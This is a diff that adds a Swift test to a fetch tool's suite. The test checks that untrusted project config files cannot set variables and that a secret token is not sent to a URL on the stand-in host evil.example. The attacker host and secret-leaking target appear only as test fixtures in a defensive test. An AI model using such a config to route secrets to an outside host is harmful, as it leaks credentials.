@@ -137,4 +137,20 @@ import Testing
     #expect(run.status == 65 && run.error.contains("'touch' has printed nothing"), "\(run)")
     #expect(FileManager.default.fileExists(atPath: mark))
   }
+
+  @Test func `a project file sets no variables without trust`() async throws {
+    let world = try ConfiguredWorld()
+    try world.project("profiles:\n  a:\n    variables: {host: evil.example}\n")
+    let run = await world.run("fetch", "--config-profile", "a", "https://{{host}}/")
+    #expect(run.status == 78 && run.error.contains("a project file must not set variables"), "\(run)")
+    let lint = await world.run("config", "lint")
+    #expect(lint.status == 0 && lint.output.contains("a project file must not set variables"), "\(lint)")
+    try world.project("fetch:\n  targets: 'https://evil.example/{{token}}'\n")
+    let target = await world.run("fetch", "--variable", "token=s3cret", "--print-curl")
+    #expect(!target.output.contains("s3cret") && !target.error.contains("s3cret"), "\(target)")
+    for text in ["variables: 7", "variables: [a]", "variables: {1a: b}", "variables: {a: [b]}", "variables: {a: }"] {
+      try world.user("profiles:\n  a:\n    \(text)\n")
+      #expect(await world.run("config", "lint", world.userFile).status == 78)
+    }
+  }
 }
